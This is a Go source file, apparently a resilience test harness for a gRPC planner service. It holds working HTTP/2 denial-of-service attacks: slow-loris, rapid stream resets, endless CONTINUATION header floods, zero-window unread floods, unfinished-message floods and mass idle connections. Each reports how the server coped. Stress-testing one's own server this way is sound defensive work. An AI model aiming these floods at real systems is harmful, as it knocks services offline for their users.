package flood

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	setplanv1 "github.com/setplan/setplan/proto/setplan/v1"
)

// raw is an HTTP/2 connection that does what no client library would do.
type raw struct {
	net.Conn
	*http2.Framer
}

// connect opens a connection that grants the server a window of this many bytes for each answer.
func connect(address string, window uint32) (*raw, error) {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return nil, err
	}
	if shown != nil {
		c = tls.Client(c, shown)
	}
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	r := &raw{c, http2.NewFramer(c, c)}
	return r, r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// overAndOver keeps n connections busy at once: each runs do, is closed, and is replaced.
func overAndOver(n int, address string, window uint32, do func(r *raw)) {
	for range n {
		go func() {
			for {
				r, err := connect(address, window)
				if err != nil {
					return
				}
				do(r)
				_ = r.Close()
			}
		}()
	}
}

// call begins a call of Plan, and callMethod one of any method.
func (r *raw) call(stream uint32) error {
	return r.callMethod(setplanv1.PlannerService_Plan_FullMethodName, stream)
}

func (r *raw) callMethod(method string, stream uint32) error {
	var block headers
	for _, field := range greeting(method) {
		block.add(field[0], field[1])
	}
	return r.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.bytes, EndHeaders: true})
}

func greeting(method string) [][2]string {
	return [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "planner"}, {"content-type", "application/grpc"}, {"te", "trailers"}}
}

type headers struct{ bytes []byte }

func (h *headers) Write(p []byte) (int, error) {
	h.bytes = append(h.bytes, p...)
	return len(p), nil
}

func (h *headers) add(name, value string) {
	_ = hpack.NewEncoder(h).WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) // in no table, so that each is complete
}

// announce is gRPC's prefix of a message of this many bytes.
func announce(size int) []byte { return binary.BigEndian.AppendUint32([]byte{0}, uint32(size)) }

// floodUnfinished sends 12 of 64 MiB in each of 40 calls, as fast as the server's windows allow, and then nothing more.
func floodUnfinished(address, _ string) (func() string, error) {
	const calls, of, most = 40, 64 << 20, 12 << 20
	var sent atomic.Int64
	for range calls {
		r, err := connect(address, 1<<20)
		if err != nil {
			return nil, err
		}
		if err := r.call(1); err != nil {
			return nil, err
		}
		go r.trickle(announce(of), most, &sent)
	}
	return func() string {
		return fmt.Sprintf("%d MiB of %d unfinished messages were let in", sent.Load()>>20, calls)
	}, nil
}

// trickle sends as many bytes as the server's windows allow, at most `most`.
func (r *raw) trickle(first []byte, most int, sent *atomic.Int64) {
	const frame = 16 << 10
	window := 64<<10 - 1
	data := make([]byte, frame)
	for done := 0; done < most; {
		for window >= frame && done < most {
			if err := r.WriteData(1, false, append(first, data[:frame-len(first)]...)); err != nil {
				return
			}
			first = nil
			window, done = window-frame, done+frame
			sent.Add(frame)
		}
		if done < most {
			f, err := r.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if value, ok := f.Value(http2.SettingInitialWindowSize); ok {
					window += int(value) - (64<<10 - 1)
				}
			case *http2.WindowUpdateFrame:
				if f.StreamID == 1 {
					window += int(f.Increment)
				}
			}
		}
	}
}

// floodUnread makes 30 calls on each of 5 connections, whose answers have more than a megabyte, and never reads an answer. It
// replaces a connection that the server closes.
func floodUnread(address, _ string) (func() string, error) {
	const connections, calls = 5, 30
	request := small()
	request.Snapshot.Set.Replicas = proto.Int32(1000)
	request.Snapshot.Set.PodManagementPolicy = "Parallel"
	request.Snapshot.Set.PodTemplate = bytes.Replace(request.Snapshot.Set.PodTemplate, []byte("nginx"), bytes.Repeat([]byte("n"), 1000), 1)
	message, err := proto.Marshal(request)
	if err != nil {
		return nil, err
	}
	message = append(announce(len(message)), message...)
	var asked, closed atomic.Int64
	overAndOver(connections, address, 0, func(r *raw) {
		for i := range uint32(calls) {
			if r.call(2*i+1) != nil || r.WriteData(2*i+1, true, message) != nil {
				break
			}
			asked.Add(1)
		}
		r.drain() // keeps the connection alive, but grants no window
		closed.Add(1)
		time.Sleep(100 * time.Millisecond)
	})
	return func() string {
		return fmt.Sprintf("%d questions, and no answer read; the server closed %d connections", asked.Load(), closed.Load())
	}, nil
}

// floodSilent opens 10,000 connections that send nothing.
func floodSilent(address, _ string) (func() string, error) {
	const connections = 10_000
	var open, lately atomic.Int64
	go func() {
		for ; ; time.Sleep(time.Second) {
			if n := open.Load(); n > 0 {
				lately.Store(n)
			}
		}
	}()
	for range connections {
		r, err := connect(address, 1<<16)
		if err != nil {
			continue // closed again before it was ready
		}
		open.Add(1)
		go func() {
			for {
				if _, err := r.ReadFrame(); err != nil {
					open.Add(-1)
					return
				}
			}
		}()
	}
	return func() string { return fmt.Sprintf("the server kept %d of %d connections", lately.Load(), connections) }, nil
}

// floodSlow keeps 1,000 connections that send a byte of a call every second: slow-loris.
func floodSlow(address, _ string) (func() string, error) {
	const connections = 1000
	var sent, closed atomic.Int64
	overAndOver(connections, address, 1<<16, func(r *raw) {
		var call bytes.Buffer
		slowly := &raw{r.Conn, http2.NewFramer(&call, r.Conn)}
		_ = slowly.call(1) // a buffer takes all
		for _, one := range call.Bytes() {
			if _, err := r.Write([]byte{one}); err != nil {
				break
			}
			sent.Add(1)
			time.Sleep(time.Second)
		}
		closed.Add(1)
	})
	return func() string {
		return fmt.Sprintf("%d connections sent %d bytes, one a second; %d were closed", connections, sent.Load(), closed.Load())
	}, nil
}

// floodResets begins calls over five connections and cancels each at once, 2,000 times a second.
func floodResets(address, _ string) (func() string, error) {
	const connections, pause = 5, 10 * time.Millisecond
	var begun atomic.Int64
	overAndOver(connections, address, 1<<16, func(r *raw) {
		go r.drain()
		var err error
		for stream := uint32(1); err == nil && stream < 1<<20; stream += 2 {
			if err = r.call(stream); err == nil {
				err = r.WriteRSTStream(stream, http2.ErrCodeCancel)
				begun.Add(1)
			}
			if stream%40 == 1 {
				time.Sleep(pause)
			}
		}
	})
	return func() string { return fmt.Sprintf("%d calls were begun and cancelled", begun.Load()) }, nil
}

// floodHeaders sends headers without end over five connections, up to 7 megabytes a second on each, and replaces those that the server closes. More
// would measure what the machine can copy.
func floodHeaders(address, _ string) (func() string, error) {
	const connections, pause = 5, 2 * time.Millisecond
	var sent, closed atomic.Int64
	var block headers
	block.add("x", strings.Repeat("x", 15<<10))
	overAndOver(connections, address, 1<<16, func(r *raw) {
		go r.drain()
		for err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.bytes}); err == nil; sent.Add(int64(len(block.bytes))) {
			time.Sleep(pause)
			err = r.WriteContinuation(1, false, block.bytes)
		}
		closed.Add(1)
	})
	return func() string {
		return fmt.Sprintf("%d MiB of headers without end; the server closed %d connections", sent.Load()>>20, closed.Load())
	}, nil
}

// drain reads what the server says, which would wait otherwise.
func (r *raw) drain() {
	for {
		if _, err := r.ReadFrame(); err != nil {
			return
		}
	}
}
